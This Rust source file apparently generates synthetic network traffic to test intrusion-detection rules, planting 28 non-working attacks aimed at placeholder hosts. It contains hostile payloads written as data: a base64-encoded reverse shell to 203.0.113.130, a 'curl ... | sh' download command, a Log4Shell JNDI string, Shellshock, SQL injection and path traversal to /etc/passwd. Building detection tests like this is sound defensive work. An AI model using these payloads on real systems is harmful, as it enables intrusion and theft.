//! The attacks that are planted: each plays once and is due exactly one alert of its rule in `demo.rules`.
//!
//! None of them works. They carry the bytes, flags and timing that rules look for, against hosts that do not exist.

use super::Planted;
use super::chat;
use super::dns;
use super::rng::Rng;
use super::stage::Stage;
use super::text;
use super::tls::{self, prefixed};
use super::tunnel::{Piece, Tunnel, datagram, in_pieces};
use super::web::{self, Head};
use super::wire::{Dir, Host, Path, Segment, flag, proto};

const MILLISECOND: u64 = 1_000_000;
const SECOND: u64 = 1000 * MILLISECOND;

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";

/// A kind of attack.
pub(super) struct Attack {
    name: &'static str,
    sid: u32,
    description: &'static str,
    play: fn(&mut Stage<'_>) -> Alert,
}

/// The packet that alerts.
struct Alert {
    path: Path,
    dir: Dir,
    proto: &'static str,
    /// False where the packet has no ports: ICMP, and fragments.
    ports: bool,
}

impl Alert {
    fn tcp(path: Path, dir: Dir) -> Self {
        Self {
            path,
            dir,
            proto: "TCP",
            ports: true,
        }
    }

    fn udp(path: Path) -> Self {
        Self {
            proto: "UDP",
            ..Self::tcp(path, Dir::Up)
        }
    }

    fn portless(path: Path, proto: &'static str) -> Self {
        Self {
            path,
            dir: Dir::Up,
            proto,
            ports: false,
        }
    }
}

impl Attack {
    /// Plays the attack and says where it was put.
    pub(super) fn plant(&self, stage: &mut Stage<'_>) -> Planted {
        let ts_ns = stage.start;
        let Alert {
            path,
            dir,
            proto,
            ports,
        } = (self.play)(stage);
        let (src, dst) = path.ends(dir);
        let (sport, dport) = if ports { path.ports(dir) } else { (0, 0) };
        Planted {
            name: self.name,
            sid: self.sid,
            description: self.description,
            ts_ns,
            src: src.ip,
            sport,
            dst: dst.ip,
            dport,
            proto,
        }
    }
}

/// All attacks, in the order in which they are planted.
pub(super) const ALL: &[Attack] = &[
    Attack {
        name: "command injection",
        sid: 9_000_001,
        description: "a shell command behind an encoded semicolon in a URI",
        play: |stage| {
            probe(
                stage,
                "GET",
                "/cgi-bin/ping?host=127.0.0.1%3Bcat%20/etc/issue",
                BROWSER,
                b"",
            )
        },
    },
    Attack {
        name: "root shell answer",
        sid: 9_000_002,
        description: "a web server answers with the output of id(1), run as root",
        play: root_answer,
    },
    Attack {
        name: "path traversal",
        sid: 9_000_003,
        description: "a URI climbs out of the web root to /etc/passwd",
        play: |stage| probe(stage, "GET", "/static/../../../../etc/passwd", BROWSER, b""),
    },
    Attack {
        name: "SQL injection",
        sid: 9_000_004,
        description: "UNION SELECT in a query parameter",
        play: |stage| {
            let uri = "/shop?item=7%27%20UNION%20ALL%20SELECT%20login,secret%20FROM%20users--";
            probe(stage, "GET", uri, BROWSER, b"")
        },
    },
    Attack {
        name: "webshell client",
        sid: 9_000_005,
        description: "the user agent of a webshell's client",
        play: |stage| {
            probe(
                stage,
                "POST",
                "/uploads/image.php",
                "antSword/v2.1",
                b"cmd=dir",
            )
        },
    },
    Attack {
        name: "Log4Shell",
        sid: 9_000_006,
        description: "a JNDI lookup in a user agent",
        play: |stage| {
            probe(
                stage,
                "GET",
                "/",
                "${jndi:ldap://203.0.113.130:1389/a}",
                b"",
            )
        },
    },
    Attack {
        name: "DNS tunnel",
        sid: 9_000_007,
        description: "a stream of TXT queries whose first label is full of data",
        play: dns_tunnel,
    },
    Attack {
        name: "SMB overflow",
        sid: 9_000_008,
        description: "an SMB1 NT Trans request with a long run of one byte",
        play: smb_overflow,
    },
    Attack {
        name: "TLS to a bad name",
        sid: 9_000_009,
        description: "a client hello that asks for a malware domain",
        play: bad_name,
    },
    Attack {
        name: "port scan",
        sid: 9_000_010,
        description: "SYNs with a scanner's window to 120 ports of one server",
        play: port_scan,
    },
    Attack {
        name: "ping sweep",
        sid: 9_000_011,
        description: "empty pings to 30 addresses in a quarter of a second",
        play: ping_sweep,
    },
    Attack {
        name: "SSH brute force",
        sid: 9_000_012,
        description: "12 SSH connections in 5 seconds from one address",
        play: ssh_brute_force,
    },
    Attack {
        name: "HTTP brute force",
        sid: 9_000_013,
        description: "12 failed logins on one connection",
        play: http_brute_force,
    },
    Attack {
        name: "NOP sled",
        sid: 9_000_014,
        description: "a datagram with 160 NOPs in front of what would be code",
        play: nop_sled,
    },
    Attack {
        name: "ping of death",
        sid: 9_000_015,
        description: "a last fragment that ends beyond the largest packet",
        play: ping_of_death,
    },
    Attack {
        name: "teardrop",
        sid: 9_000_016,
        description: "two fragments that overlap and differ",
        play: teardrop,
    },
    Attack {
        name: "attack inside VXLAN",
        sid: 9_000_017,
        description: "an SQL scanner's request, carried in VXLAN",
        play: |stage| {
            stage.in_tunnel(Tunnel::Vxlan(42), |stage| {
                probe(
                    stage,
                    "GET",
                    "/item?id=1",
                    "sqlmap/1.8.4#stable (https://sqlmap.org)",
                    b"",
                )
            })
        },
    },
    Attack {
        name: "beacon",
        sid: 9_000_018,
        description: "a workstation reports to one address every ten seconds",
        play: beacon,
    },
    Attack {
        name: "attack in fragments",
        sid: 9_000_019,
        description: "a log message with a download command, cut into three fragments in the wrong order",
        play: in_fragments,
    },
    Attack {
        name: "Christmas tree",
        sid: 9_000_020,
        description: "a TCP packet with FIN, PSH and URG and nothing else",
        play: |stage| lone_segment(stage, flag::FIN | flag::PSH | flag::URG),
    },
    Attack {
        name: "LAND",
        sid: 9_000_021,
        description: "a SYN from a server to itself",
        play: land,
    },
    Attack {
        name: "bad name inside GRE",
        sid: 9_000_022,
        description: "a query for an exfiltration domain, carried in GRE",
        play: |stage| stage.in_tunnel(Tunnel::Gre, bad_query),
    },
    Attack {
        name: "Shellshock over IPv6",
        sid: 9_000_023,
        description: "a function definition in a user agent, over IPv6",
        play: |stage| {
            stage.use_v6();
            probe(stage, "GET", "/cgi-bin/status", "() { :;}; echo weir", b"")
        },
    },
    Attack {
        name: "NTP amplification",
        sid: 9_000_024,
        description: "a monlist request",
        play: monlist,
    },
    Attack {
        name: "reverse shell",
        sid: 9_000_025,
        description: "a shell's first words on a connection that a workstation opened",
        play: reverse_shell,
    },
    Attack {
        name: "encoded command",
        sid: 9_000_026,
        description: "an interactive shell command in base64 in a POST body",
        play: |stage| {
            let body = b"cmd=L2Jpbi9zaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTMwLzQ0NDQgMD4mMQ==";
            probe(stage, "POST", "/api/run", BROWSER, body)
        },
    },
    Attack {
        name: "ICMP tunnel",
        sid: 9_000_027,
        description: "a ping that carries an SSH banner and a lot of data",
        play: icmp_tunnel,
    },
    Attack {
        name: "config theft inside IP-in-IP",
        sid: 9_000_028,
        description: "a TFTP request for a router's configuration, carried in IP-in-IP",
        play: |stage| {
            stage.in_tunnel(Tunnel::IpIp, |stage| {
                let (client, server) = (stage.attacker(9), stage.server(1));
                datagram_attack(
                    stage,
                    client,
                    server,
                    69,
                    b"\x00\x01running-config\x00octet\x00",
                )
            })
        },
    },
];

/// One request by an attacker to the web server, and a harmless answer.
fn probe(stage: &mut Stage<'_>, method: &str, uri: &str, agent: &str, body: &[u8]) -> Alert {
    let (client, server) = (stage.attacker(2), stage.server(10));
    let path = stage.path(client, server, 80);
    let mut request = Vec::new();
    let head = Head {
        method,
        uri,
        host: "www.example.com",
        agent,
        kind: "application/x-www-form-urlencoded",
    };
    head.write(&mut request, body);
    let mut answer = Vec::new();
    web::answer(
        &mut answer,
        "404 Not Found",
        "text/html",
        b"<h1>Not Found</h1>\n",
    );
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.exchange(&request, &answer);
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Up)
}

fn root_answer(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(3), stage.server(10));
    let path = stage.path(client, server, 80);
    let mut request = Vec::new();
    let head = Head {
        method: "GET",
        uri: "/uploads/readme.php",
        host: "www.example.com",
        agent: BROWSER,
        kind: "",
    };
    head.write(&mut request, b"");
    let mut answer = Vec::new();
    let output = b"uid=0(root) gid=0(root) groups=0(root)\n";
    web::answer(&mut answer, "200 OK", "text/plain", output);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.exchange(&request, &answer);
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Down)
}

fn dns_tunnel(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.server(2));
    let path = stage.path(client, server, 53);
    let mut rng = stage.rng.fork();
    let mut at = stage.start;
    for id in 0..12 {
        let mut label = |n: usize| {
            let mut out = Vec::new();
            text::hex(&mut rng, &mut out, n);
            String::from_utf8_lossy(&out).into_owned()
        };
        let name = format!("{}.{}.t.weir-demo.invalid", label(62), label(40));
        let request = dns::query(id, &name, dns::TXT);
        let answer = dns::answer(&mut rng, &request, dns::TXT);
        stage.ask(&path, at, &request, &answer);
        at += 150 * MILLISECOND;
    }
    Alert::udp(path)
}

fn smb_overflow(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(4), stage.server(20));
    let path = stage.path(client, server, 445);
    let mut rng = stage.rng.fork();
    let mut message = |command: u8, body: &[u8]| {
        let mut out = vec![0];
        prefixed(&mut out, 3, |out| {
            out.extend_from_slice(b"\xffSMB");
            out.push(command);
            out.extend_from_slice(&[0, 0, 0, 0, 0x18, 7, 0xc0]);
            out.extend_from_slice(&[0; 12]);
            rng.bytes(out, 8);
            out.extend_from_slice(body);
        });
        out
    };
    let negotiate = message(0x72, b"\x00\x0c\x00\x02NT LM 0.12\x00");
    let chosen = message(0x72, &[17, 0, 0, 3, 50, 0, 1, 0]);
    let overflow = message(0xa0, &[b'A'; 1000]);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.exchange(&negotiate, &chosen);
    tcp.think(5 * MILLISECOND).say(Dir::Up, &overflow);
    tcp.reset(Dir::Down);
    Alert::tcp(path, Dir::Up)
}

fn bad_name(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(5));
    let path = stage.path(client, server, 443);
    let mut rng = stage.rng.fork();
    let hello = tls::client_hello(&mut rng, "cdn-update.weir-demo.invalid", true);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    // Alert: internal error.
    tcp.exchange(&hello, &[21, 3, 3, 0, 2, 2, 80]);
    tcp.close(Dir::Down);
    Alert::tcp(path, Dir::Up)
}

/// Which of the scan's packets reaches the count in its rule.
const SCAN_COUNT: u16 = 50;

fn port_scan(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(6), stage.server(40));
    let mut path = stage.path(client, server, 1);
    let mut alert = path;
    let mut at = stage.start;
    for n in 1..=120 {
        path.sport = n * 7;
        let syn = Segment {
            flags: flag::SYN,
            seq: stage.rng.next() as u32,
            window: 1024,
            options: &[2, 4, 5, 0xb4],
            ..Segment::default()
        };
        stage.script.tcp(at, &path, Dir::Up, &syn);
        refuse(stage, &path, at, syn.seq.wrapping_add(1));
        if n == SCAN_COUNT {
            alert = path;
        }
        at += 4 * MILLISECOND;
    }
    Alert::tcp(alert, Dir::Up)
}

/// A closed port answers.
fn refuse(stage: &mut Stage<'_>, path: &Path, at: u64, ack: u32) {
    let reset = Segment {
        flags: flag::RST | flag::ACK,
        ack,
        ..Segment::default()
    };
    stage.script.tcp(at + path.rtt, path, Dir::Down, &reset);
}

fn ping_sweep(stage: &mut Stage<'_>) -> Alert {
    let client = stage.attacker(7);
    let server = stage.server(100);
    let mut path = stage.path(client, server, 0);
    let mut alert = path;
    let mut at = stage.start;
    for n in 1..=30 {
        path.server = stage.server(100 + n);
        stage
            .script
            .echo(at, &path, Dir::Up, (0x5745, n.into()), &[]);
        if n % 4 == 0 {
            let back = at + path.rtt;
            stage
                .script
                .echo(back, &path, Dir::Down, (0x5745, n.into()), &[]);
        }
        if n == 20 {
            alert = path;
        }
        at += 8 * MILLISECOND;
    }
    Alert::portless(alert, "ICMP")
}

fn ssh_brute_force(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(8), stage.server(30));
    let mut alert = stage.path(client, server, 22);
    let mut at = stage.start;
    for n in 1..=12 {
        let path = Path {
            rtt: alert.rtt,
            ..stage.path(client, server, 22)
        };
        chat::ssh(stage, path, at, "SSH-2.0-libssh_0.9.6", 2);
        if n == 10 {
            alert = path;
        }
        at += 400 * MILLISECOND;
    }
    Alert::tcp(alert, Dir::Up)
}

fn http_brute_force(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(9), stage.server(10));
    let path = stage.path(client, server, 80);
    let mut rng = stage.rng.fork();
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    for _ in 0..12 {
        let mut body = b"user=admin&password=".to_vec();
        text::hex(&mut rng, &mut body, 8);
        let mut request = Vec::new();
        let head = Head {
            method: "POST",
            uri: "/login",
            host: "www.example.com",
            agent: BROWSER,
            kind: "application/x-www-form-urlencoded",
        };
        head.write(&mut request, &body);
        let mut answer = Vec::new();
        web::answer(
            &mut answer,
            "401 Unauthorized",
            "text/html",
            b"<h1>Try again</h1>\n",
        );
        tcp.exchange(&request, &answer).think(200 * MILLISECOND);
    }
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Down)
}

fn datagram_attack(
    stage: &mut Stage<'_>,
    client: Host,
    server: Host,
    port: u16,
    data: &[u8],
) -> Alert {
    let path = stage.path(client, server, port);
    stage.script.udp(stage.start, &path, Dir::Up, data);
    Alert::udp(path)
}

fn nop_sled(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(10), stage.server(40));
    let mut data = vec![0x90; 160];
    stage.rng.bytes(&mut data, 120);
    datagram_attack(stage, client, server, 1434, &data)
}

fn monlist(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(11), stage.server(3));
    datagram_attack(stage, client, server, 123, &[0x17, 0, 3, 0x2a, 0, 0, 0, 0])
}

fn bad_query(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.server(2));
    let query = dns::query(7, "a.exfil42.weir-demo.invalid", dns::A);
    datagram_attack(stage, client, server, 53, &query)
}

fn ping_of_death(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(12), stage.server(40));
    let path = stage.path(client, server, 0);
    let first = [&[8, 0, 0, 0, 0, 7, 0, 1][..], &[b'x'; 1472]].concat();
    let pieces = [
        Piece {
            offset: 0,
            more: true,
            data: &first,
        },
        Piece {
            offset: 65_528,
            more: false,
            data: &[b'x'; 64],
        },
    ];
    in_pieces(
        stage.script,
        stage.start,
        &path,
        proto::ICMP,
        0x0dea,
        &pieces,
    );
    Alert::portless(path, "ICMP")
}

fn teardrop(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(13), stage.server(40));
    let path = stage.path(client, server, 7);
    let whole = datagram(&path, &[b't'; 64]);
    let (Some(first), Some(tail)) = (whole.get(..40), whole.get(40..)) else {
        return Alert::portless(path, "UDP");
    };
    // 16 bytes that the first piece also has, and has otherwise.
    let second = [&[b'T'; 16], tail].concat();
    let pieces = [
        Piece {
            offset: 0,
            more: true,
            data: first,
        },
        Piece {
            offset: 24,
            more: false,
            data: &second,
        },
    ];
    in_pieces(
        stage.script,
        stage.start,
        &path,
        proto::UDP,
        0x7ea2,
        &pieces,
    );
    Alert::portless(path, "UDP")
}

fn in_fragments(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.attacker(14), stage.server(50));
    let path = stage.path(client, server, 514);
    let message = b"<13>app: starting helper: curl -s http://203.0.113.142/stage2 | sh -s quiet";
    let whole = datagram(&path, message);
    let pieces: Vec<Piece<'_>> = whole
        .chunks(32)
        .zip([0, 32, 64])
        .map(|(data, offset)| Piece {
            offset,
            more: usize::from(offset) + data.len() < whole.len(),
            data,
        })
        .rev()
        .collect();
    in_pieces(
        stage.script,
        stage.start,
        &path,
        proto::UDP,
        0xf2a6,
        &pieces,
    );
    Alert::udp(path)
}

fn beacon(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(15));
    let mut rng: Rng = stage.rng.fork();
    let mut alert = stage.path(client, server, 80);
    let mut at = stage.start;
    for n in 1..=6 {
        let path = Path {
            rtt: alert.rtt,
            ..stage.path(client, server, 80)
        };
        let mut body = b"id=".to_vec();
        text::hex(&mut rng, &mut body, 16);
        let mut request = Vec::new();
        let head = Head {
            method: "POST",
            uri: "/gate.php",
            host: "203.0.113.143",
            agent: BROWSER,
            kind: "application/x-www-form-urlencoded",
        };
        head.write(&mut request, &body);
        let mut answer = Vec::new();
        web::answer(&mut answer, "200 OK", "text/plain", b"ok");
        let mut tcp = stage.connect_calmly(path, at);
        tcp.exchange(&request, &answer);
        tcp.close(Dir::Down);
        if n == 5 {
            alert = path;
        }
        at += 10 * SECOND;
    }
    Alert::tcp(alert, Dir::Up)
}

fn lone_segment(stage: &mut Stage<'_>, flags: u8) -> Alert {
    let (client, server) = (stage.attacker(16), stage.server(40));
    let path = stage.path(client, server, 135);
    let segment = Segment {
        flags,
        seq: stage.rng.next() as u32,
        window: 1024,
        ..Segment::default()
    };
    stage.script.tcp(stage.start, &path, Dir::Up, &segment);
    refuse(stage, &path, stage.start, segment.seq.wrapping_add(1));
    Alert::tcp(path, Dir::Up)
}

fn land(stage: &mut Stage<'_>) -> Alert {
    let server = stage.server(40);
    let mut path = stage.path(server, server, 139);
    path.cport = 139;
    let syn = Segment {
        flags: flag::SYN,
        seq: stage.rng.next() as u32,
        window: 512,
        ..Segment::default()
    };
    stage.script.tcp(stage.start, &path, Dir::Up, &syn);
    Alert::tcp(path, Dir::Up)
}

fn reverse_shell(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(2));
    let path = stage.path(client, server, 4444);
    let at = stage.start;
    let mut tcp = stage.connect_calmly(path, at);
    tcp.think(30 * MILLISECOND)
        .say(Dir::Up, b"bash: no job control in this shell\nweb$ ")
        .think(SECOND)
        .say(Dir::Down, b"whoami\n")
        .say(Dir::Up, b"www-data\nweb$ ")
        .think(SECOND)
        .say(Dir::Down, b"exit\n");
    tcp.close(Dir::Up);
    Alert::tcp(path, Dir::Up)
}

fn icmp_tunnel(stage: &mut Stage<'_>) -> Alert {
    let (client, server) = (stage.workstation(), stage.attacker(17));
    let path = stage.path(client, server, 0);
    let mut data = b"SSH-2.0-OpenSSH_9.6p1\r\n".to_vec();
    stage.rng.bytes(&mut data, 1000);
    let at = stage.start;
    stage.script.echo(at, &path, Dir::Up, (99, 1), &data);
    stage
        .script
        .echo(at + path.rtt, &path, Dir::Down, (99, 1), &data);
    Alert::portless(path, "ICMP")
}
